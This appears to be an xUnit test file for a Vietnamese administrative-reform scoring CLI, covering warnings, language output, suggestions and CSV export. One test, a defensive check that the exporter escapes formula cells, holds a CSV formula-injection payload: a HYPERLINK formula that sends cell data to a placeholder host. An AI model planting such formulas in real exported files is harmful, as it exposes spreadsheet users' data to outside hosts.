using System;
using System.IO;
using System.Linq;
using Cchc.Scoring;
using Cchc.Scoring.Serialization;
using Xunit;

namespace Cchc.Scoring.Cli.Tests;

/// <summary>What the command line prints for a new user: warnings about the data, notes, marks and footnotes, words, CSV for spreadsheets.</summary>
public sealed class PresentationTests : IDisposable
{
    private readonly TestData _data = new();

    public void Dispose() => _data.Dispose();

    private Cli.Outcome Score(params string[] extra) =>
        Cli.Run(["score", "--framework", _data.FrameworkPath, "--submissions", _data.SubmissionsPath, .. extra]);

    // ---- Newcomer 6 / 13: periods with no or little data, periods outside the plan, the default period ----

    [Fact]
    public void N6_A_quarter_with_little_data_warns_and_marks_the_units()
    {
        // The sample has 3 quarterly submissions in 2025-Q3: 1 of QLVT, 2 of VP. A quarter has no yearly "not applicable"
        // declarations, so all 23 indicators apply to each of the 9 units: 9 × 23 = 207; without data 7 × 23 + 22 + 21 = 204.
        var run = Cli.Run("score", "--period", "2025-Q3", "--lang", "en");

        Assert.True(run.ExitCode == 0, run.ToString());
        Assert.Contains("cchc: warning: 2025-Q3: no data for 204 of 207 indicators in 9 of 9 units.", run.ErrorLines);
        Assert.Matches(@"^Unit\s+Name\s+Points\s+Max\s+Index\s+Class\s+No data$", Assert.Single(run.OutputLines, l => l.StartsWith("Unit ", StringComparison.Ordinal)));
        Assert.Matches(@"^QLVT\s.*\s5\.00\s+Weak\s+22/23$", Assert.Single(run.OutputLines, l => l.StartsWith("QLVT ", StringComparison.Ordinal)));
        Assert.Matches(@"^VP\s.*\s8\.00\s+Weak\s+21/23$", Assert.Single(run.OutputLines, l => l.StartsWith("VP ", StringComparison.Ordinal)));
        Assert.Matches(@"^BQLDA\s.*\s23/23$", Assert.Single(run.OutputLines, l => l.StartsWith("BQLDA ", StringComparison.Ordinal)));
        Assert.StartsWith("No data: indicators without data / indicators that apply to the unit", run.OutputLines[^1], StringComparison.Ordinal);
    }

    [Fact]
    public void N6_The_warning_is_in_vietnamese_by_default()
    {
        var run = Cli.Run("score", "--period", "2025-Q3");

        Assert.Contains("cchc: cảnh báo: 2025-Q3: không có số liệu cho 204/207 chỉ tiêu ở 9/9 đơn vị.", run.ErrorLines);
        Assert.Contains(run.OutputLines, l => l.StartsWith("Đơn vị ", StringComparison.Ordinal) && l.EndsWith("Thiếu số liệu", StringComparison.Ordinal));
    }

    [Fact]
    public void N6_The_documented_as_of_example_warns_that_nothing_was_known()
    {
        // cli.md: cchc score --period 2024-Q3 --as-of 2024-10-20T00:00:00Z. The sample has no quarterly data for 2024: 9 × 23 = 207.
        var run = Cli.Run("score", "--period", "2024-Q3", "--as-of", "2024-10-20T00:00:00Z", "--lang", "en", "--format", "json");

        Assert.True(run.ExitCode == 0, run.ToString());
        Assert.Contains("cchc: warning: 2024-Q3: no data for 207 of 207 indicators in 9 of 9 units.", run.ErrorLines);
    }

    [Fact]
    public void N6_Complete_data_gives_no_warning_and_no_column()
    {
        var run = Score("--period", "2025", "--lang", "en");

        Assert.True(run.ExitCode == 0, run.ToString());
        Assert.Equal(string.Empty, run.Error);
        Assert.DoesNotContain("No data", run.Output, StringComparison.Ordinal);
    }

    [Fact]
    public void N6_A_period_outside_the_plan_is_a_warning()
    {
        var outside = Score("--period", "2030", "--lang", "en");
        var inside = Score("--period", "2021", "--lang", "en");

        Assert.True(outside.ExitCode == 0, outside.ToString());
        Assert.Contains("cchc: warning: period 2030 lies outside the framework's plan (2021-01-01..2025-12-31): its targets were not set for this period.", outside.ErrorLines);
        Assert.DoesNotContain(inside.ErrorLines, l => l.Contains("outside", StringComparison.Ordinal));
    }

    [Fact]
    public void N6_Outside_the_plan_means_less_than_half_of_the_period_inside_it()
    {
        var framework = FrameworkJson.Read(TestData.FrameworkJson).GetValueOrThrow();

        // Administrative calendar: 2021 is 2020-12-15..2021-12-14, 17 of 365 days before the plan: inside.
        Assert.False(Notices.OutsidePlan(framework, ReportingPeriod.ForYear(2021, ReportingCalendar.Administrative)));

        // 2026 is 2025-12-15..2026-12-14: 17 days within the plan (to 2025-12-31) of 365: outside.
        Assert.True(Notices.OutsidePlan(framework, ReportingPeriod.ForYear(2026, ReportingCalendar.Administrative)));
        Assert.True(Notices.OutsidePlan(framework, ReportingPeriod.ForYear(2020)));
        Assert.False(Notices.OutsidePlan(framework, ReportingPeriod.Parse("2025-Q4")));
    }

    [Fact]
    public void N6_The_default_period_says_why_it_was_chosen()
    {
        var byDefault = Score("--lang", "en");
        var given = Score("--lang", "en", "--period", "2025");
        var csv = Score("--lang", "en", "--format", "csv");

        Assert.Contains("Period: 2025 (2025-01-01..2025-12-31), the latest year with submissions", byDefault.OutputLines);
        Assert.Contains("Period: 2025 (2025-01-01..2025-12-31)", given.OutputLines);
        Assert.Contains("cchc: note: Period: 2025, the latest year with submissions.", csv.ErrorLines);
        Assert.Contains("Kỳ đánh giá: 2025 (2025-01-01..2025-12-31) — năm gần nhất có số liệu", Score().OutputLines);
    }

    [Fact]
    public void N6_Rank_report_and_trajectory_warn_too()
    {
        var rank = Cli.Run("rank", "--period", "2025-Q3", "--lang", "en");
        Assert.True(rank.ExitCode == 0, rank.ToString());
        Assert.Contains("cchc: warning: 2025-Q3: no data for 204 of 207 indicators in 9 of 9 units.", rank.ErrorLines);
        Assert.Matches(@"^\s+1\s+VP\s.*\s8\.00\s+Weak\s+21/23$", Assert.Single(rank.OutputLines, l => l.Contains(" VP ", StringComparison.Ordinal)));

        string file = Path.Combine(_data.Directory, "q3.html");
        var report = Cli.Run("report", "--period", "2025-Q3", "--lang", "en", "--out", file);
        Assert.True(report.ExitCode == 0, report.ToString());
        Assert.Contains("cchc: warning: 2025-Q3: no data for 204 of 207 indicators in 9 of 9 units.", report.ErrorLines);

        // Nothing was recorded by 2020: VP and P1 have no yearly value for any indicator; P1's "not applicable" for B1 was not known yet.
        var trajectory = Cli.Run("trajectory", "--framework", _data.FrameworkPath, "--submissions", _data.SubmissionsPath, "--as-of", "2020-01-01T00:00:00Z", "--lang", "en");
        Assert.True(trajectory.ExitCode == 0, trajectory.ToString());
        Assert.Contains("cchc: warning: Trajectories to the target year: no data for 6 of 6 indicators in 2 of 2 units.", trajectory.ErrorLines);
        Assert.Contains(trajectory.OutputLines, l => l.StartsWith("Unit VP Department office (lacks data 3/3): ", StringComparison.Ordinal));
    }

    // ---- Newcomer 13: --unit with a typo ----

    [Fact]
    public void N13_Score_unit_in_the_wrong_case_is_an_error_with_did_you_mean()
    {
        var run = Cli.Run("score", "--unit", "so");

        Assert.Equal(1, run.ExitCode);
        Assert.Equal(string.Empty, run.Output);
        Assert.Equal(
            "error unknown-unit: Unit 'so' has neither a declaration nor a submission; did you mean 'SO'? The units are BQLDA, KHTC, QLKCHT, QLVT, SO, TTDK, TTRA, TTSH, VP.",
            Assert.Single(run.ErrorLines));
    }

    [Fact]
    public void N13_Explain_and_report_suggest_the_same_way()
    {
        var explain = Cli.Run("explain", "--unit", "QLVTT");
        var report = Cli.Run("report", "--unit", "vp", "--out", Path.Combine(_data.Directory, "x.html"));

        Assert.Equal(1, explain.ExitCode);
        Assert.Contains("did you mean 'QLVT'?", explain.Error, StringComparison.Ordinal);
        Assert.Equal(1, report.ExitCode);
        Assert.Contains("did you mean 'VP'?", report.Error, StringComparison.Ordinal);
    }

    [Fact]
    public void N13_A_unit_far_from_every_name_gets_the_list_and_a_long_list_is_counted()
    {
        Assert.Null(Suggestions.Closest("XX", ["P1", "VP"]));
        Assert.Equal("Unit 'XX' has neither a declaration nor a submission; the units are P1, VP.", Suggest.UnknownUnit("XX", ["P1", "VP"]).Message);
        var many = Enumerable.Range(1, 25).Select(i => "U" + i.ToString(System.Globalization.CultureInfo.InvariantCulture)).ToArray();
        Assert.Equal("Unit 'U100' has neither a declaration nor a submission; did you mean 'U10'? There are 25 units (see cchc score).", Suggest.UnknownUnit("U100", many).Message);
    }

    [Fact]
    public void N16_An_unknown_indicator_gets_did_you_mean()
    {
        var run = Cli.Run("explain", "--unit", "SO", "--indicator", "t02");

        Assert.Equal(1, run.ExitCode);
        Assert.Contains("has no indicator 't02'; did you mean 'T02'?", run.Error, StringComparison.Ordinal);
    }

    // ---- Newcomer 7: the chosen language everywhere ----

    [Fact]
    public void N7_Detail_explanations_follow_lang()
    {
        var vi = Score("--unit", "VP");
        var en = Score("--unit", "VP", "--lang", "en");

        Assert.Contains("        Giá trị: 197 ÷ 200 × 100 = 98,5 %", vi.OutputLines);
        Assert.Contains("        Số liệu: VP 2025 A1 = 197/200, ghi nhận 2026-01-10T02:00:00Z, lần 1/1", vi.OutputLines);
        Assert.DoesNotContain("value 197", vi.Output, StringComparison.Ordinal);
        Assert.Contains("        Value: 197 ÷ 200 × 100 = 98.5 %", en.OutputLines);
    }

    [Fact]
    public void N7_Kinds_of_unit_are_words_in_the_chosen_language()
    {
        var vi = Cli.Run("rank", "--group-by", "kind");
        var en = Cli.Run("rank", "--group-by", "kind", "--lang", "en");

        Assert.Contains("Loại đơn vị: Sở", vi.OutputLines);
        Assert.Contains("Loại đơn vị: Đơn vị trực thuộc", vi.OutputLines);
        Assert.Contains("Unit kind: subordinate unit", en.OutputLines);
        Assert.Equal("district-x", Words.Kind("district-x", Language.Vi));
        Assert.Equal("-", Words.Kind(string.Empty, Language.En));
    }

    [Fact]
    public void N7_Every_text_of_the_command_line_is_in_both_languages()
    {
        foreach (var property in typeof(Texts).GetProperties().Where(p => p.PropertyType == typeof(string)))
        {
            string vi = (string)property.GetValue(Texts.Vi)!;
            string en = (string)property.GetValue(Texts.En)!;
            Assert.False(string.IsNullOrWhiteSpace(vi), property.Name);
            Assert.False(string.IsNullOrWhiteSpace(en), property.Name);
            Assert.True(vi != en, property.Name + ": '" + vi + "' is the same in both languages");
        }
    }

    [Fact]
    public void N7_History_writes_figures_in_the_chosen_language()
    {
        // The sample's SO 2025 T02: 18927 of 21050 dossiers, 13 left out; Vietnamese groups thousands with a dot.
        var vi = Cli.Run("history", "--unit", "SO", "--indicator", "T02", "--period", "2025");
        var en = Cli.Run("history", "--unit", "SO", "--indicator", "T02", "--period", "2025", "--lang", "en");

        Assert.Contains(vi.OutputLines, l => l.StartsWith("2025 ", StringComparison.Ordinal) && l.Contains(" 18.927/21.050 (loại trừ 13)", StringComparison.Ordinal));
        Assert.Contains(en.OutputLines, l => l.StartsWith("2025 ", StringComparison.Ordinal) && l.Contains(" 18927/21050 (13 excluded)", StringComparison.Ordinal));
        Assert.Equal("không áp dụng", Texts.Vi.Figure(Measurement.NotApplicable(MeasureKind.Ratio)));
        Assert.Equal("12 (5 trường hợp)", Texts.Vi.Figure(Measurement.Duration(12, 5)));
        Assert.Equal("không", Texts.Vi.Figure(Measurement.YesNo(false)));
    }

    // ---- Newcomer 9 / reliability 111: CSV for spreadsheets ----

    [Fact]
    public void N9_Csv_numbers_are_rounded_by_default_and_exact_on_demand()
    {
        var rounded = Csv.Parse(Score("--format", "csv", "--lang", "en").Output);
        var exact = Csv.Parse(Score("--format", "csv", "--lang", "en", "--exact").Output);

        // P1 A1: 2 ÷ 3 × 100 = 66.666…; the framework rounds to 2 digits, half away from zero: 66.67. Index 28.07 ÷ 70 × 100 = 40.1.
        Assert.Equal(["P1", "66.67", "95", "28.07", "40", "40.1"], new[] { rounded[1][0], rounded[1][6], rounded[1][7], rounded[1][8], rounded[1][9], rounded[1][10] });
        Assert.Equal("66.666666666666666666666666667", exact[1][6]);
    }

    [Fact]
    public void N9_Csv_bom_and_decimal_comma_for_vietnamese_excel()
    {
        var run = Score("--format", "csv", "--lang", "en", "--bom", "--decimal-comma", "--unit", "P1");

        Assert.True(run.ExitCode == 0, run.ToString());
        Assert.StartsWith("\uFEFFUnit;Unit name;Area;Indicator;", run.Output, StringComparison.Ordinal);
        string[] records = run.Output.Split("\r\n");
        Assert.Equal("P1;\"Transport division, \"\"vehicles\"\"\";A;A1;Share of dossiers on time;not met;66,67;95;28,07;40;40,1;Weak;", records[1]);
    }

    [Fact]
    public void N9_Csv_options_need_the_csv_format()
    {
        var run = Score("--bom");

        Assert.Equal(2, run.ExitCode);
        Assert.Contains("--exact, --bom and --decimal-comma apply to --format csv only.", run.Error, StringComparison.Ordinal);
        Assert.Equal(2, Score("--format", "xml", "--exact").ExitCode);
    }

    [Fact]
    public void R111_Csv_cells_that_a_spreadsheet_would_evaluate_are_escaped()
    {
        const string Formula = "=HYPERLINK(\"http://example.invalid/?\"&A1,\"click\")";
        string units = "{ \"id\": \"@X\", \"name\": { \"vi\": \"" + Formula.Replace("\"", "\\\"", StringComparison.Ordinal) + "\", \"en\": \"+1\" }, \"kind\": \"-office\" }";
        string submissions = _data.Write("formula.json", TestData.SubmissionsFile("test-fw", units, "{ \"unit\": \"@X\", \"period\": \"2025\", \"indicator\": \"B1\", \"recordedAt\": \"2026-01-10T02:00:00Z\", \"value\": 85 }"));

        var vi = Cli.Run("score", "--framework", _data.FrameworkPath, "--submissions", submissions, "--format", "csv");
        var en = Cli.Run("score", "--framework", _data.FrameworkPath, "--submissions", submissions, "--format", "csv", "--lang", "en");

        Assert.True(vi.ExitCode == 0, vi.ToString());
        var record = Csv.Parse(vi.Output)[1];
        Assert.Equal("'@X", record[0]);
        Assert.Equal("'" + Formula, record[1]);
        Assert.Equal("'+1", Csv.Parse(en.Output)[1][1]);

        var style = new CsvStyle(Exact: false, Bom: false, DecimalComma: false);
        Assert.Equal("'-5", style.Text("-5"));
        Assert.Equal("'\tx", style.Text("\tx"));
        Assert.Equal("\"'\rx\"", style.Text("\rx"));
        Assert.Equal("-5", style.Number(-5m, RoundingPolicy.Default)); // a plain negative number in a numeric column stays a number
    }

    // ---- Newcomer 14a: "not met" with full points ----

    [Fact]
    public void N14_Not_met_with_full_points_is_marked_with_a_footnote()
    {
        // SO T02: 18927 ÷ (21050 − 13) × 100 = 89.970053… % < 90: not met; 89.970053… × 5 ÷ 90 = 4.99834 → 5.00 of 5.
        var run = Cli.Run("score", "--unit", "SO", "--lang", "en");

        Assert.Matches(@"^    T02\s.*\s89\.97\s+>= 90\s+%\s+not met†\s+5\.00/5\.00$", Assert.Single(run.OutputLines, l => l.StartsWith("    T02 ", StringComparison.Ordinal)));
        Assert.Equal("† rounded to the maximum; the target is not met", run.OutputLines[^1]);
        Assert.DoesNotContain("†", Score("--unit", "VP").Output, StringComparison.Ordinal);
    }

    // ---- Newcomer 17: conveniences ----

    [Fact]
    public void N17_Cchc_alone_prints_the_help()
    {
        var run = Cli.Run();

        Assert.Equal(0, run.ExitCode);
        Assert.Contains("Usage:", run.Output, StringComparison.Ordinal);
        Assert.Contains("Exit codes", run.Output, StringComparison.Ordinal);
        Assert.Equal(string.Empty, run.Error);
    }

    [Fact]
    public void N17_A_mistyped_command_gets_did_you_mean()
    {
        var run = Cli.Run("scor");
        var swapped = Cli.Run("socre", "--period", "2025");

        Assert.Equal(2, run.ExitCode);
        Assert.Equal("cchc: 'scor' is not a cchc command; did you mean 'score'?", run.ErrorLines[0]);
        Assert.DoesNotContain("Required command", run.Error, StringComparison.Ordinal);
        Assert.Equal("cchc: 'socre' is not a cchc command; did you mean 'score'?", swapped.ErrorLines[0]);
    }

    [Fact]
    public void N17_Options_without_a_command_say_that_the_command_is_missing()
    {
        var run = Cli.Run("--lang", "en");

        Assert.Equal(2, run.ExitCode);
        Assert.StartsWith("cchc: no command given; the commands are score, ", run.ErrorLines[0], StringComparison.Ordinal);
        Assert.DoesNotContain("Required command", run.Error, StringComparison.Ordinal);
    }

    [Fact]
    public void N17_Score_roll_up_marks_the_rolled_up_units()
    {
        var run = Cli.Run("score", "--roll-up", "--lang", "en");

        Assert.True(run.ExitCode == 0, run.ToString());
        Assert.Contains(run.OutputLines, l => l.StartsWith("SO*  ", StringComparison.Ordinal));
        Assert.Contains("* rolled up from its units", run.OutputLines);
        Assert.DoesNotContain(run.OutputLines, l => l.StartsWith("VP*", StringComparison.Ordinal));
    }

    [Fact]
    public void N17_Detail_shows_units_of_measure_and_cuts_long_names()
    {
        var vi = Cli.Run("score", "--unit", "SO");
        var en = Cli.Run("score", "--unit", "SO", "--lang", "en");

        Assert.Matches(@"^    T07\s.*\s12\s+<= 15\s+phút/giao dịch\s+Đạt\s+4\.00/4\.00$", Assert.Single(vi.OutputLines, l => l.StartsWith("    T07 ", StringComparison.Ordinal)));
        Assert.Contains(en.OutputLines, l => l.StartsWith("    T07 ", StringComparison.Ordinal) && l.Contains("minutes per transaction", StringComparison.Ordinal));
        Assert.Contains(en.OutputLines, l => l.StartsWith("    Indicator ", StringComparison.Ordinal) && l.Contains("Unit of measure", StringComparison.Ordinal));

        // Every indicator row: 4 spaces, code, the name cut to 48 characters (47 and "…").
        var t14 = Assert.Single(vi.OutputLines, l => l.StartsWith("    T14 ", StringComparison.Ordinal));
        string name = BuiltInFrameworks.Get(BuiltInFrameworks.GtvtTienGiang20212025).FindIndicator("T14")!.Name.Vi;
        Assert.True(name.Length > 48);
        Assert.Contains(name[..47].TrimEnd() + "…", t14, StringComparison.Ordinal);
        Assert.Equal("abc…", ScoreTable.Truncate("abcdef", 4));
        Assert.Equal("abcd", ScoreTable.Truncate("abcd", 4));
        Assert.Equal("Vie\u0323…", ScoreTable.Truncate("Vie\u0323t Nam", 4).Normalize(System.Text.NormalizationForm.FormD));
    }

    [Fact]
    public void N17_Report_without_unit_says_which_unit_it_chose()
    {
        var department = Cli.Run("report", "--period", "2025", "--lang", "en", "--out", Path.Combine(_data.Directory, "so.html"));
        var flat = Cli.Run("report", "--framework", _data.FrameworkPath, "--submissions", _data.SubmissionsPath, "--period", "2025", "--lang", "en", "--out", Path.Combine(_data.Directory, "p1.html"));
        var given = Cli.Run("report", "--period", "2025", "--unit", "VP", "--out", Path.Combine(_data.Directory, "vp.html"));

        Assert.Contains("cchc: note: the report is about unit SO Tiền Giang Department of Transport (no --unit: the unit the others report to; choose another with --unit).", department.ErrorLines);
        Assert.Contains("cchc: note: the report is about unit P1 Transport division, \"vehicles\" (no --unit and no unit that others report to: the first unit; choose another with --unit).", flat.ErrorLines);
        Assert.DoesNotContain(given.ErrorLines, l => l.Contains("--unit", StringComparison.Ordinal));
    }

    [Fact]
    public void N17_The_built_in_sample_is_said_to_be_synthetic()
    {
        var vi = Cli.Run("score");
        var en = Cli.Run("rank", "--lang", "en");
        var json = Cli.Run("score", "--format", "json");

        Assert.Contains(vi.OutputLines, l => l.Contains("số liệu mẫu tổng hợp", StringComparison.Ordinal));
        Assert.Contains(en.OutputLines, l => l.Contains("synthetic sample data", StringComparison.Ordinal));
        Assert.Contains(json.ErrorLines, l => l.StartsWith("cchc: lưu ý: ", StringComparison.Ordinal) && l.Contains("số liệu mẫu tổng hợp", StringComparison.Ordinal));
        Assert.DoesNotContain("synthetic", Score("--lang", "en").Output, StringComparison.Ordinal);
    }

    [Fact]
    public void N17_The_suggest_directive_completes_commands_and_options()
    {
        // docs/cli.md, "Shell completion".
        Assert.Equal("score", Cli.Run("[suggest:3]", "sco").Output.Trim());
        Assert.Contains("--decimal-comma", Cli.Run("[suggest:11]", "score --dec").OutputLines);
    }

    // ---- Newcomer 12: starter files from the tool ----

    [Fact]
    public void N12_Frameworks_export_writes_the_built_in_json()
    {
        const string Id = BuiltInFrameworks.Index7662022;
        var run = Cli.Run("frameworks", "--export", Id);

        Assert.True(run.ExitCode == 0, run.ToString());
        Assert.Equal(BuiltInFrameworks.GetJson(Id).TrimEnd('\n') + "\n", run.Output);
    }

    [Fact]
    public void N12_Exported_framework_and_sample_files_validate_and_score_like_the_built_in()
    {
        const string Id = BuiltInFrameworks.GtvtTienGiang20212025;
        string framework = Path.Combine(_data.Directory, "starter.json");
        string sample = Path.Combine(_data.Directory, "starter-submissions.json");

        Assert.Equal(0, Cli.Run("frameworks", "--export", Id, "-o", framework).ExitCode);
        Assert.Equal(0, Cli.Run("frameworks", "--sample", Id, "--out", sample).ExitCode);
        var validate = Cli.Run("validate", framework, sample);
        var fromFiles = Cli.Run("score", "-f", framework, "-s", sample, "--period", "2025", "--format", "csv");
        var builtIn = Cli.Run("score", "--period", "2025", "--format", "csv");

        Assert.True(validate.ExitCode == 0, validate.ToString());
        Assert.Equal(builtIn.Output, fromFiles.Output);
    }

    [Fact]
    public void N12_Frameworks_export_of_an_unknown_id_or_a_wrong_combination()
    {
        var unknown = Cli.Run("frameworks", "--export", "index766");

        Assert.Equal(1, unknown.ExitCode);
        Assert.Contains("error unknown-framework: 'index766' is not a built-in framework; did you mean 'index766-2022'?", unknown.Error, StringComparison.Ordinal);
        Assert.Equal(2, Cli.Run("frameworks", "--export", "index766-2022", "--sample", "index766-2022").ExitCode);
        Assert.Equal(2, Cli.Run("frameworks", "-o", Path.Combine(_data.Directory, "x.json")).ExitCode);
        Assert.Equal(1, Cli.Run("frameworks", "--sample", "index766-2022", "-o", Path.Combine(_data.Directory, "missing", "x.json")).ExitCode);
    }
}
